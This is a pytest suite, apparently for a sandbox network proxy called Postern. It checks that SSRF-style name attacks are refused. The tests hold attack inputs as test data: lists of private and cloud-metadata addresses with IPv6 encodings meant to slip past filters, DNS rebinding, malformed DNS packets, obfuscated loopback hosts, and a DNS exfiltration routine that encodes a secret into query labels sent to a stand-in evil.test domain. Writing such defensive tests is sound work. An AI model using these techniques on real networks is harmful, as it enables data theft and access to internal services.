"""Attacks by names: questions that carry data out, and answers that lead inside (docs/security.md 5, 6, 59-63).

Postern runs in a small internet of its own (attacks/world.py) with a nameserver that the attacker controls, and hosts that note who
reaches them at public and at private addresses alike.
"""

import json
import os
import subprocess

import pytest

import kit
from attacks_support import PYTHON

WORLD = kit.ROOT / "tests/attacks/world.py"
PUBLIC, OTHER_PUBLIC = "93.184.216.34", "2606:2800:220:1::1"

# Every kind of address that a name may not lead to, as the attacker's zone gives it.
INSIDE = {
    "metadata": ("A", "169.254.169.254"), "ten": ("A", "10.0.0.1"), "twelve": ("A", "172.16.5.5"), "home": ("A", "192.168.1.1"),
    "loop": ("A", "127.0.0.1"), "loop9": ("A", "127.9.9.9"), "zero": ("A", "0.0.0.0"), "cgnat": ("A", "100.100.100.200"),
    "itself": ("A", "100.64.0.2"), "azure": ("A", "168.63.129.16"), "multicast": ("A", "224.0.0.1"), "broadcast": ("A", "255.255.255.255"),
    "loop6": ("AAAA", "::1"), "any6": ("AAAA", "::"), "local6": ("AAAA", "fd00::1"), "aws6": ("AAAA", "fd00:ec2::254"), "link6": ("AAAA", "fe80::1"),
    "mapped": ("AAAA", "::ffff:10.0.0.1"), "compatible": ("AAAA", "::10.0.0.1"), "nat64": ("AAAA", "64:ff9b::a00:1"),
    "sixtofour": ("AAAA", "2002:a00:1::1"), "teredo": ("AAAA", "2001:0:a00:1::1"), "isatap": ("AAAA", "2606:2800:220:1:0:5efe:a00:1"),
}
TRAPS = ["169.254.169.254", "10.0.0.1", "172.16.5.5", "192.168.1.1", "127.0.0.1", "127.9.9.9", "100.100.100.200", "100.64.0.2", "168.63.129.16", "::1",
         "fd00::1", "fd00:ec2::254", "2002:a00:1::1", "2001:0:a00:1::1", "64:ff9b::a00:1", "2606:2800:220:1:0:5efe:a00:1"]


def live(place, zones, code, allow=("*.zone.test",), addresses=(PUBLIC, OTHER_PUBLIC, *TRAPS), options=()):
    """Runs `code` in a sandbox in a world with these zones. Returns what happened, and the records."""
    postern = kit.Postern(place)
    words, log = postern.arguments(PYTHON, "-c", CODE + code, options=[word for pattern in allow for word in ("--allow", pattern)] + [*options])
    description = {"zones": zones, "addresses": [*addresses], "ports": [80, 8080], "command": words, "environment": postern.environment(),
                   "work": str(postern.work), "directory": str(place)}
    unshare = ["unshare", "--net", "--mount"] if os.geteuid() == 0 else ["unshare", "--map-root-user", "--net", "--mount"]
    done = subprocess.run([*unshare, PYTHON, str(WORLD)], input=json.dumps(description), capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    world = json.loads(done.stdout)
    assert world["status"] == 0, world["stderr"]
    world["records"] = [json.loads(line) for line in log.read_text().splitlines()]
    return world


CODE = """
import json, os, socket, sys, time
sys.path.insert(0, %r)
import raw
def get(name, port=80):
    answer = b''
    try:
        with socket.create_connection((name, port), 20) as c:
            c.settimeout(20)
            c.sendall(f'GET / HTTP/1.1\\r\\nHost: {name}:{port}\\r\\nConnection: close\\r\\n\\r\\n'.encode())
            while data := c.recv(4096): answer += data
    except ConnectionResetError: return 'reset'
    text = answer.decode()
    reason = [line[18:] for line in text.split('\\r\\n') if line.startswith('X-Postern-Reason: ')]
    return text[9:12] + ' ' + (reason[0] if reason else text.split('\\r\\n')[-1])
""" % str(WORLD.parent)


@pytest.mark.parametrize("port", [80, 8080])
def test_a_name_that_leads_inside_is_refused_though_it_is_allowed(place, port):
    zones = {f"{name}.zone.test {kind}": [[value]] for name, (kind, value) in INSIDE.items()} | {"good.zone.test A": [[PUBLIC]]}
    world = live(place, zones, f"""
seen = {{}}
for name in {[*INSIDE, 'good']}:
    try: seen[name] = get(name + '.zone.test', {port})
    except OSError as error: seen[name] = str(error)
print(json.dumps(seen))
""")
    seen = json.loads(world["stdout"])
    assert seen.pop("good") == "200 reached"  # The positive control: names are resolved and reached in this world.
    refusal = "403 private_address" if port == 80 else "reset"
    assert seen == {name: refusal for name in INSIDE}
    assert world["reached"] == [[PUBLIC, port]]
    for name in INSIDE:
        found = [r for r in world["records"] if r["host"] == f"{name}.zone.test"]
        assert [(r["decision"], r["reason"]) for r in found] == [("denied", "private_address")], found


def test_of_mixed_addresses_only_the_public_ones_are_dialled(place):
    world = live(place, {"mixed.zone.test A": [["10.0.0.1", PUBLIC, "169.254.169.254"]], "mixed.zone.test AAAA": [["fd00::1"]],
                         "mixed6.zone.test A": [["127.0.0.1"]], "mixed6.zone.test AAAA": [[OTHER_PUBLIC]]},
                 "print([get('mixed.zone.test') for _ in range(5)], get('mixed6.zone.test'))")
    assert world["stdout"].strip() == str(["200 reached"] * 5) + " 200 reached"
    assert {tuple(where) for where in world["reached"]} == {(PUBLIC, 80), (OTHER_PUBLIC, 80)}


def test_an_alias_to_a_name_inside_is_refused(place):
    world = live(place, {"alias.zone.test CNAME": [["deeper.zone.test"]], "deeper.zone.test CNAME": [["intranet.corp.test"]],
                         "intranet.corp.test A": [["10.0.0.1"]], "good.zone.test CNAME": [["www.corp.test"]], "www.corp.test A": [[PUBLIC]]},
                 "print(get('alias.zone.test'), '|', get('good.zone.test'))")
    assert world["stdout"].strip() == "403 private_address | 200 reached"
    assert world["reached"] == [[PUBLIC, 80]]


def test_a_name_that_changes_its_mind_is_checked_each_time_it_is_dialled(place):
    """Rebinding: public for the first answer, inside for every later one, all with a TTL of 0. What was checked is what is dialled."""
    world = live(place, {"rebind.zone.test A": [[PUBLIC], ["10.0.0.1"]]}, """
first = get('rebind.zone.test')
end, later = time.monotonic() + 15, first
while later == first and time.monotonic() < end: later = get('rebind.zone.test')
print(first, '|', later, '|', {get('rebind.zone.test') for _ in range(20)})
""")
    assert world["stdout"].strip() == "200 reached | 403 private_address | {'403 private_address'}"
    assert {tuple(where) for where in world["reached"]} == {(PUBLIC, 80)}
    assert world["asked"].count(["rebind.zone.test", 1]) >= 2


def test_what_the_operator_opened_is_open_and_nothing_beside_it(place):
    world = live(place, {"ten.zone.test A": [["10.0.0.1"]], "home.zone.test A": [["192.168.1.1"]]},
                 "print(get('ten.zone.test'), '|', get('home.zone.test'))", options=["--allow-private", "10.0.0.0/8"])
    assert world["stdout"].strip() == "200 reached | 403 private_address"
    assert world["reached"] == [["10.0.0.1", 80]]


def test_no_question_about_a_denied_name_leaves_by_any_way(place):
    """Data in labels, every record type, over UDP and TCP, to any resolver; DoT and DoH to a public resolver; a call by name."""
    world = live(place, {"good.zone.test A": [[PUBLIC]]}, """
seen = []
secret = os.urandom(20).hex()
for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 52, 64, 65, 99, 255, 257, 65535):
    for tcp in (False, True):
        for server in ('8.8.8.8', '127.0.0.53', '1.1.1.1'):
            name = f'{secret}.{kind}.{int(tcp)}.' + 'x' * 60 + '.evil.test'
            answer = raw.dns({'name': name, 'kind': kind, 'tcp': tcp, 'server': server})
            seen.append((kind, answer['code'], answer.get('answers')))
for name in ('nosuch.' + secret + '.evil.test', secret + '.evil.test', 'good.zone.test.evil.test', 'evilzone.test'):
    try: get(name)
    except OSError: pass
for host, port in (('8.8.8.8', 853), ('1.1.1.1', 443), ('8.8.8.8', 5353)):
    try:
        with socket.create_connection((host, port), 5) as c: c.sendall(b'x' * 40); c.recv(10)
    except OSError: pass
# Allowed names, but other types than addresses: they bring ECH and HTTP/3, or carry data.
inert = [raw.dns({'name': 'good.zone.test', 'kind': kind})['answers'] for kind in (16, 64, 65, 10, 255, 15)]
print(json.dumps([seen, inert, get('good.zone.test')]))
""")
    seen, inert, good = json.loads(world["stdout"])
    assert good == "200 reached" and inert == [0] * 6
    assert {name for name, _ in world["asked"]} == {"good.zone.test"}, world["asked"]
    assert {kind for _, kind in world["asked"]} <= {1, 28}
    # Only addresses are ever given, and those are synthetic.
    assert all(not count for kind, _, count in seen if kind != 1), seen
    assert world["reached"] == [[PUBLIC, 80]]
    assert any(r["kind"] == "dns" and r["decision"] == "denied" for r in world["records"])


def test_malformed_questions_are_answered_or_dropped_and_the_next_is_served(place):
    world = live(place, {"good.zone.test A": [[PUBLIC]]}, """
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.settimeout(5)
for size in (0, 1, 11, 12, 13, 511, 512, 4096, 60000):
    for fill in (b'\\0', b'\\xff', b'\\xc0', b'\\x3f'):
        try: udp.sendto(fill * size, ('8.8.8.8', 53))
        except OSError: pass
loop = os.urandom(2) + b'\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + b'\\xc0\\x0c' + b'\\0\\1\\0\\1'  # A name that points at itself.
udp.sendto(loop, ('8.8.8.8', 53))
for prefix in (b'\\0\\0', b'\\xff\\xff', b'\\0\\x05hello', b'\\0'):
    with socket.create_connection(('8.8.8.8', 53), 5) as c: c.sendall(prefix)
for host in ('0x7f.1', '2130706433', '0177.0.0.1', '127.1', '[::1]', 'zone.test\\\\000', '*.zone.test', 'a' * 64 + '.zone.test'):
    try: get(host)
    except (OSError, UnicodeError): pass
print(get('good.zone.test'))
""")
    assert world["stdout"].strip() == "200 reached"
    assert world["reached"] == [[PUBLIC, 80]]
    assert {name for name, _ in world["asked"]} == {"good.zone.test"}, world["asked"]


def test_a_datagram_to_anywhere_but_a_resolver_is_refused_and_quic_with_it(place):
    world = live(place, {"good.zone.test A": [[PUBLIC]]}, """
def refused(address, port):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); udp.settimeout(5); udp.connect((address, port))
    try: udp.send(b'\\xc0\\0\\0\\0\\1' + bytes(1200)); udp.recv(10); return 'answered'
    except ConnectionRefusedError: return 'refused'
address = socket.gethostbyname('good.zone.test')
print({refused(address, 443), refused(address, 80), refused('93.184.216.34', 443)}, get('good.zone.test'))
""")
    assert world["stdout"].strip() == "{'refused'} 200 reached"
